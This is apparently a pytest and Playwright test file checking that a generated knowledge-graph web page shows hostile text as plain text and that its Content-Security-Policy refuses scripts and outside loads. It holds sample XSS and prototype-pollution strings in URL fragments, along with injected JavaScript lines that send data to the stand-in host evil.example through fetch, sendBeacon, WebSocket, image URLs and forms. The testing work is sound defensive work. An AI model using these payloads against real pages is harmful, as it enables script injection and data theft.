"""Text that tries to be markup, script, style or an address stays text, and the browser would refuse it besides."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, sync_playwright

from kg.model import Document, Evidence, Extraction, Knowledge, Literal, Node, Span, Statement, Status
from kg.page import drawing, render
from kg.page.payload import Data, payload
from tests.browser import launch
from tests.page_hostile import BASE, KNOWLEDGE, RULES, WORDS
from tests.page_visit import Visit, opened

#: Of classes alone: the hostile words are everywhere else.
LABELS = {"Person": "person", "Ministry": "ministry", "said": "said", "memberOf": "member of"}
FAMILIES = {"Ministry": "Body"}


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with sync_playwright() as playwright:
        chromium = launch(playwright)
        yield chromium
        chromium.close()


@pytest.fixture(scope="module")
def data() -> Data:
    return payload(KNOWLEDGE, base=BASE, labels=LABELS, rules=RULES, families=FAMILIES)


@pytest.fixture(scope="module", params=[False, True], ids=["whole", "quotes only"])
def file(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("hostile") / "a <script> & 'page' 🍵.html"
    made = render(
        KNOWLEDGE, base=BASE, labels=LABELS, rules=RULES, families=FAMILIES, digest="x" * 64, quotes_only=request.param
    )
    path.write_bytes(made.encode("utf-8"))
    return path


@pytest.fixture
def seen(browser: Browser, file: Path) -> Iterator[Visit]:
    with opened(browser, file) as visit:
        census = visit.page.evaluate(CENSUS)
        yield visit
        # Whatever was shown, no element came of it that the page does not make, and nothing ran.
        assert set(visit.page.evaluate(CENSUS)) - set(census) <= MADE
        assert visit.page.evaluate("document.scripts.length") == 5
        assert visit.page.evaluate(HANDLERS) == []


#: The names of all elements; those that only cards, lists and reports have; and attributes that would run.
CENSUS = "[...new Set([...document.querySelectorAll('*')].map((one) => one.localName))]"
MADE = set(
    "article aside b bdi blockquote button cite code dd details dialog div dl dt em form g h2 h3 h4 i label li line mark"
    " ol option p path pre q rect select small span strong summary svg table tbody td text textarea th thead time title"
    " tr ul".split()
)
HANDLERS = """[...document.querySelectorAll('*')].flatMap((one) => [...one.attributes]
  .filter(({ name, value }) => name.startsWith("on") || /^(src|srcdoc|href)$/.test(name) && !/^(#|blob:)/.test(value))
  .map(({ name, value }) => `${name}=${value}`))"""


def shows(seen: Visit, selector: str, words: str) -> None:
    """It shows exactly these words, by and by."""
    seen.page.wait_for_function(
        "([selector, words]) => document.querySelector(selector)?.textContent === words", arg=[selector, words]
    )


def test_every_card_shows_its_words(seen: Visit, data: Data) -> None:
    for node in data["nodes"]:
        seen.page.evaluate("id => { location.hash = `node=${encodeURIComponent(id)}`; }", node["id"])
        shows(seen, "#panel h2", node["words"] or node["label"])
        card = seen.page.text_content("#panel") or ""
        assert all(name in card for name in node["names"])


def test_every_statement_shows_its_words_its_sentence_and_its_rule(seen: Visit, data: Data) -> None:
    for one in data["statements"]:
        seen.go(f"statement={one['id']}")
        (reading,) = one["evidence"]
        source = data["documents"][reading["document"]]
        text = source["text"].encode("utf-16-le")
        shows(seen, "#panel blockquote", text[2 * reading["start"] : 2 * reading["end"]].decode("utf-16-le"))
        card = seen.page.text_content("#panel") or ""
        words = reading["rule"].removeprefix("rule.")
        wanted = [one["subject"]["text"], one["object"]["text"], reading["rule"], f"Says {words}", source["title"]]
        wanted += [source["publisher"], reading["speaker"], *(value for _, value in one["qualifiers"])]
        wanted += [value for _, value in reading["qualifiers"]]
        assert [some for some in wanted if some not in card] == []


def test_every_sentence_of_every_document_shows_its_words(seen: Visit, data: Data) -> None:
    for name, source in data["documents"].items():
        seen.page.evaluate("name => { location.hash = `doc=${encodeURIComponent(name)}`; }", name)
        seen.page.wait_for_function("name => document.getElementById('which').value === name", arg=name)
        shown = seen.page.eval_on_selector_all("#pages .sentence", "all => all.map((one) => one.textContent)")
        whole = [
            source["text"].encode("utf-16-le")[2 * s[0] : 2 * s[1]].decode("utf-16-le") for s in source["sentences"]
        ]
        kept = (
            whole if seen.page.evaluate("JSON.parse(document.getElementById('data').textContent).whole") else whole[:2]
        )
        assert shown == kept
        for number in range(len(kept)):
            seen.page.evaluate("id => { location.hash = `sentence=${encodeURIComponent(id)}`; }", f"{name}:{number}")
            shows(seen, "#panel blockquote", kept[number])
        words = name.partition(" ")[2]
        if len(kept) == 4:
            card = seen.page.text_content("#panel") or ""
            assert card.count(words) >= 4  # the sentence, why, the slot and what was left open


def test_the_table_the_list_of_documents_and_the_strip_of_time_show_their_words(seen: Visit, data: Data) -> None:
    rows = [row[1:4] for row in seen.table()]
    assert rows == [[s["subject"]["text"], s["relation"], s["object"]["text"]] for s in data["statements"]]
    options: list[list[str]] = seen.page.eval_on_selector_all(
        "#which option", "all => all.map(({ value, textContent }) => [value, textContent])"
    )
    assert [value for value, _ in options] == list(data["documents"])
    for value, shown in options:
        title = data["documents"][value]["title"]
        assert shown.startswith(title[:60])
    spoken: list[str] = seen.page.eval_on_selector_all(
        "#strip .moment title", "all => all.map((one) => one.textContent)"
    )
    told = {source["title"][:40] for source in data["documents"].values()}
    assert len([one for one in spoken if any(words in one for words in told)]) > 10


@pytest.mark.parametrize("words", WORDS.values(), ids=WORDS)
def test_search_finds_and_shows_what_is_typed(seen: Visit, words: str, data: Data) -> None:
    seen.page.fill("#search", words)
    if not words.strip():
        return
    typed = seen.page.input_value("#search")  # a field has one line
    found: list[str] = seen.page.eval_on_selector_all(
        "#found [role=option]", "all => all.map((one) => one.textContent)"
    )
    assert found, typed
    labels = {node["label"] for node in data["nodes"]} | {name for node in data["nodes"] for name in node["names"]}
    assert all(any(label in one for label in labels) for one in found)
    seen.page.keyboard.press("Enter")
    seen.page.wait_for_function("label => document.querySelector('#panel h2').textContent !== 'How to read this'")


def test_facets_show_their_words_and_filter_by_them(seen: Visit, data: Data) -> None:
    names = set(seen.page.eval_on_selector_all("#facet-groups .name", "all => all.map((one) => one.textContent)"))
    assert {source["title"] for source in data["documents"].values()} <= names
    assert {source["publisher"] for source in data["documents"].values()} <= names
    for publisher in {source["publisher"] for source in data["documents"].values()}:
        seen.page.evaluate("name => { location.hash = `no-publisher=${encodeURIComponent(name)}`; }", publisher)
        seen.page.wait_for_function(
            "count => document.getElementById('shown').textContent.includes(count)",
            arg=f"Showing {len(data['statements']) - 5} of",
        )


def test_the_report_has_the_words_as_they_are(browser: Browser, file: Path, data: Data) -> None:
    one = next(one for one in data["statements"] if "\u202e" in one["subject"]["text"])
    before = "Object.defineProperty(navigator, 'clipboard', { value: undefined });"
    with opened(browser, file, hash_=f"#statement={one['id']}", before=before) as seen:
        seen.page.get_by_role("button", name="Report this").first.click()
        shown = seen.page.input_value("dialog textarea")
    assert f"says: {one['subject']['text']} — {one['relation']} → {one['object']['text']}" in shown


# ----------------------------------------------------------------------------------- hostile addresses

HASHES = [
    "#node=<script>alert(1)</script>",
    "#node=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
    "#node=__proto__&statement=constructor&sentence=toString",
    "#sentence=__proto__:0",
    "#doc=__proto__/../x",
    "#open=hasOwnProperty",
    "#no-class=__proto__&no-nonsense=1&no-relation=%00",
    "#sort=-__proto__",
    "#sort=javascript:alert(1)",
    "#words=%3Cb%3E%5B(*%2B%3F%5C",
    "#from=0000-00-00&to=9999-99-99",
    "#from=2024-13-45",
    "#at=NaN,NaN,NaN",
    "#at=1e999,0,0",
    "#at=0,0,0",
    "#at=99999999999,-99999999999,0.00001",
    "#at=0,0,99999",
    "#steps=99999999",
    "#add=__proto__~memberOf&add=~&add=(a%2B)%2B~x",
    "#%E0%A4%A",
    "#%00%0A%0D",
    "#=&&&===",
    "#__proto__[x]=1&constructor.prototype.x=1",
    "#" + "node=x&" * 5000,
    "#search",
]


@pytest.mark.parametrize("hash_", HASHES, ids=[one[:40] for one in HASHES])
def test_a_hostile_address_is_no_harm(browser: Browser, file: Path, hash_: str, data: Data) -> None:
    for first in (hash_, ""):
        with opened(browser, file, hash_=first) as seen:
            if not first:
                seen.page.evaluate("hash => { location.hash = hash; }", hash_)
            # It is still the page: it can be searched, and what is chosen is shown.
            seen.page.fill("#search", "Person {{ 7")
            seen.page.keyboard.press("Enter")
            shows(seen, "#panel h2", f"Person {WORDS['template']}")
            assert seen.page.evaluate("({}).x === undefined && Object.keys(Object.prototype).length === 0")
            assert seen.page.evaluate("document.scripts.length") == 5
            assert seen.page.evaluate("Object.values(kgPage.network.getViewPosition()).every(Number.isFinite)")


# ------------------------------------------------------------------------------------- Content-Security-Policy

#: What would run, load or send something if the browser let it, and the directive that does not.
VIOLATIONS: dict[str, tuple[str, str]] = {
    "script inside": (
        "const s = document.createElement('script'); s.append('window.ran = 1'); document.body.append(s);",
        "require-trusted-types-for|script-src",
    ),
    "script from elsewhere": (
        "const s = document.createElement('script'); s.setAttribute('src', 'https://evil.example/x.js'); document.body.append(s);",
        "require-trusted-types-for|script-src",
    ),
    "eval": ("eval('window.ran = 1')", "require-trusted-types-for|script-src"),
    "Function": ("new Function('window.ran = 1')()", "require-trusted-types-for|script-src"),
    "timer of words": ("setTimeout('window.ran = 1', 0)", "require-trusted-types-for|script-src"),
    "handler": (
        "document.body.setAttribute('onclick', 'window.ran = 1'); document.body.click();",
        "require-trusted-types-for|script-src-attr",
    ),
    "address that runs": (
        "const a = document.createElement('a'); a.href = 'javascript:window.ran=1'; document.body.append(a); a.click();",
        "require-trusted-types-for|script-src",
    ),
    "markup": ("document.body.innerHTML = '<img src=x onerror=\"window.ran=1\">'", "require-trusted-types-for"),
    "written markup": ("document.write('<script>window.ran = 1</' + 'script>')", "require-trusted-types-for"),
    "parsed markup": ("new DOMParser().parseFromString('<b>x</b>', 'text/html')", "require-trusted-types-for"),
    "policy of its own": ("trustedTypes.createPolicy('mine', { createHTML: (x) => x })", "trusted-types"),
    "picture": (
        "const i = new Image(); i.src = 'https://evil.example/?' + document.title; document.body.append(i);",
        "img-src",
    ),
    "picture of its own": (
        "const i = new Image(); i.src = 'data:image/gif;base64,R0lGODlhAQABAAAAACw='; document.body.append(i);",
        "img-src",
    ),
    "style": (
        "const s = document.createElement('style'); s.append('body { background: url(https://evil.example/) }'); document.body.append(s);",
        "style-src",
    ),
    "style of an element": ("document.body.setAttribute('style', 'color: red')", "style-src"),
    "style sheet": (
        "const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'https://evil.example/x.css'; document.head.append(l);",
        "style-src",
    ),
    "font": (
        "document.fonts.add(new FontFace('x', 'url(https://evil.example/x.woff)')); document.fonts.load('12px x')",
        "font-src",
    ),
    "fetch": ("fetch('https://evil.example/?secret')", "connect-src"),
    "beacon": ("navigator.sendBeacon('https://evil.example/', 'secret')", "connect-src"),
    "socket": ("new WebSocket('wss://evil.example/')", "connect-src"),
    "events": ("new EventSource('https://evil.example/')", "connect-src"),
    "frame": (
        "const f = document.createElement('iframe'); f.src = 'https://evil.example/'; document.body.append(f);",
        "frame-src",
    ),
    "object": (
        "const o = document.createElement('object'); o.data = 'https://evil.example/'; document.body.append(o);",
        "object-src",
    ),
    "sound": ("const a = new Audio('https://evil.example/x.mp3'); document.body.append(a); a.load();", "media-src"),
    "worker": ("new Worker('data:text/javascript,postMessage(1)')", "worker-src|require-trusted-types-for"),
    "form": (
        "const f = document.createElement('form'); f.action = 'https://evil.example/'; document.body.append(f); f.submit();",
        "form-action",
    ),
    "base": (
        "const b = document.createElement('base'); b.href = 'https://evil.example/'; document.head.append(b);",
        "base-uri",
    ),
}


@pytest.mark.parametrize(("script", "directive"), VIOLATIONS.values(), ids=VIOLATIONS)
def test_the_browser_refuses(browser: Browser, tmp_path: Path, script: str, directive: str) -> None:
    # The page's own script has one line more, so that the policy knows it.
    path = tmp_path / "page.html"
    path.write_bytes(attacked(script).encode())
    context = browser.new_context()
    context.set_offline(True)
    page = context.new_page()
    requests: list[str] = []
    page.on("request", lambda request: requests.append(request.url))
    page.goto(path.as_uri())
    page.wait_for_function("window.refused?.length")
    refused: list[str] = page.evaluate("window.refused")
    assert set(refused) & {f"{one}{end}" for one in directive.split("|") for end in ("", "-elem", "-attr")}, refused
    assert page.evaluate("window.ran === undefined")
    assert [url for url in requests if not url.startswith("file:")] == []
    context.close()


def attacked(script: str) -> str:
    """The page with one line at the end of its script that does this, and notes what the browser refuses."""
    asset = drawing._asset
    note = (
        "window.refused = []; document.addEventListener('securitypolicyviolation', "
        "(event) => window.refused.push(event.effectiveDirective));\n"
    )
    with pytest.MonkeyPatch.context() as patched:
        patched.setattr(
            drawing,
            "_asset",
            lambda name: asset(name) + (f"{note}try {{ {script} }} catch {{}}\n" if name == "main.js" else ""),
        )
        return render(KNOWLEDGE, base=BASE, labels=LABELS, rules=RULES, families=FAMILIES)


def test_the_policy_allows_nothing_by_its_name(seen: Visit) -> None:
    policy = seen.page.get_attribute("meta[http-equiv]", "content") or ""
    rules: dict[str, Any] = {name: rest for name, *rest in (part.split() for part in policy.split(";"))}
    assert rules["default-src"] == rules["base-uri"] == rules["form-action"] == ["'none'"]
    assert all(value.startswith("'sha256-") for name in ("script-src", "style-src") for value in rules[name])
    assert "unsafe" not in policy


def test_words_of_documents_are_in_the_data_and_nowhere_else_in_the_markup(file: Path) -> None:
    html = file.read_text(encoding="utf-8")
    before, _, rest = html.partition('<script type="application/json" id="data">')
    inside, _, after = rest.partition("</script>")
    for name in ("script", "end of script", "comment", "quotes"):
        assert WORDS[name] not in before + inside + after.partition('id="drawing">')[2].partition("</script>")[0]
    assert "<" not in inside


def test_a_lone_surrogate_does_no_harm(browser: Browser, tmp_path: Path) -> None:
    """No file holds one; who calls `render` may have one all the same."""
    words = "half \ud83c a letter"
    person = Node(f"{BASE}id/half", words, "Person", (words,))
    made = Document("note", f"Jane met {words}.", title=words)
    span = Span(0, len(made.text))
    reading = Evidence("e", "note", span, made.text, "a.rule", "", "", (("cue", span),))
    fact = Statement("s", person, "met", "met", Literal(words), Status.ASSERTED, (), (reading,))
    html = render(Knowledge((Extraction(made, (), (fact,)),), (fact,), ()), base=BASE, labels={}, rules={}, families={})
    path = tmp_path / "page.html"
    path.write_bytes(html.encode("utf-8"))
    with opened(browser, path, hash_="#node=id/half") as seen:
        assert seen.page.inner_text("#panel h2").startswith("half ")
        for kind in ("csv", "turtle", "svg"):
            assert "half \ufffd a letter" in seen.take(kind).decode("utf-8")
